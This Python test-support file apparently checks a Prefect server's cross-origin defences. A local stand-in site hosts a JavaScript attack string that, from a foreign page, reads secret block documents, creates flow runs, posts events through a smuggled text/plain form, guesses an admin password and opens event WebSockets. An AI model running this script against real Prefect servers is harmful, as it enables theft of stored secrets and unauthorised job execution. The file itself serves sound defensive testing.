"""A page of another origin that tries to read from and to control a Prefect server, and the site that serves it."""

import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, NamedTuple

from playwright.sync_api import Page


class PageAttempt(NamedTuple):
    """An attempt of a page: its name, and the part of the response that the page could read."""

    name: str
    read: str


@dataclass
class ForeignSite:
    """A site with a host name of its own that serves one page, and an API that pages of any origin may read and control."""

    url: str
    api: str
    driven: list[str]


@contextmanager
def foreign_site() -> Iterator[ForeignSite]:
    """Run a site on this machine that the browser resolves as foreign.test."""
    driven: list[str] = []

    class ForeignHandler(BaseHTTPRequestHandler):
        def do_OPTIONS(self) -> None:
            self._answer(b"")

        def do_GET(self) -> None:
            self._answer(
                b"secret"
                if self.path.startswith("/api")
                else b"<!doctype html><title>A foreign page</title>"
            )

        def do_POST(self) -> None:
            driven.append(self.path)
            self.rfile.read(int(self.headers["content-length"] or 0))
            self._answer(b"secret")

        def _answer(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(body)))
            self.send_header("access-control-allow-origin", self.headers.get("origin", "*"))
            self.send_header("access-control-allow-headers", "authorization, content-type")
            self.send_header("access-control-allow-credentials", "true")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            return

    with ThreadingHTTPServer(("127.0.0.1", 0), ForeignHandler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        port = server.server_address[1]
        yield ForeignSite(f"http://foreign.test:{port}/", f"http://127.0.0.1:{port}/api", driven)
        server.shutdown()


# Each of these attempts succeeded on a Prefect server without a login.
ATTACK = """async ({api, deployments, event, flow_run}) => {
  const tried = [];
  const ask = async (name, path, options) => {
    let read = "";
    try { read = await (await fetch(api + path, options)).text(); } catch {}
    tried.push([name, read]);
  };
  const json = body => ({method: "POST", headers: {"content-type": "application/json"}, body: JSON.stringify(body)});
  const plain = body => ({method: "POST", headers: {"content-type": "text/plain"}, body: JSON.stringify(body)});
  const unseen = body => ({...plain(body), mode: "no-cors"});
  for (const [how, as] of Object.entries({json, plain, unseen})) {
    await ask(`blocks, ${how}`, "/block_documents/filter", as({include_secrets: true}));
    await ask(`an item, ${how}`, "/events", as([event]));
    for (const [name, id] of Object.entries(deployments))
      await ask(`${name}, ${how}`, `/deployments/${id}/create_flow_run`, as(flow_run[name]));
  }
  await ask("a block", "/block_types/slug/lanes-database/block_documents/name/lanes?include_secrets=true");
  await ask("a block, with what the browser keeps", "/block_documents/filter", {...json({}), credentials: "include"});
  await ask("settings", "/admin/settings");
  await ask("a guess", "/admin/settings", {headers: {Authorization: "Basic " + btoa("lanes:lanes")}});

  const form = document.createElement("form");
  const frame = document.createElement("iframe");
  frame.name = "unseen";
  const field = document.createElement("input");
  Object.assign(form, {method: "POST", enctype: "text/plain", target: "unseen", action: api + "/events"});
  field.name = JSON.stringify([event]).slice(0, -2) + ', "id": "' + event.id + '", "x": "';
  field.value = '"}]';
  form.append(field);
  document.body.append(frame, form);
  form.submit();

  const opened = path => new Promise(resolve => {
    let read = "";
    const socket = new WebSocket(api.replace("http", "ws") + path, ["prefect"]);
    socket.onopen = () => {
      socket.send(JSON.stringify({type: "auth", token: null}));
      socket.send(JSON.stringify(event));
    };
    socket.onmessage = message => { read += message.data; };
    socket.onclose = () => resolve(read);
    socket.onerror = () => resolve(read);
  });
  for (const path of ["/events/in", "/events/out", "/logs/out"]) tried.push([`a socket, ${path}`, await opened(path)]);
  return tried;
}"""


def attack(page: Page, api: str, means: Mapping[str, Any]) -> list[PageAttempt]:
    """Try all attempts against this API from a foreign page."""
    assert page.title() == "A foreign page"
    tried = [PageAttempt(*each) for each in page.evaluate(ATTACK, {"api": api, **means})]
    page.wait_for_timeout(200)  # by then the browser has sent the form
    assert len(tried) == 19
    return tried
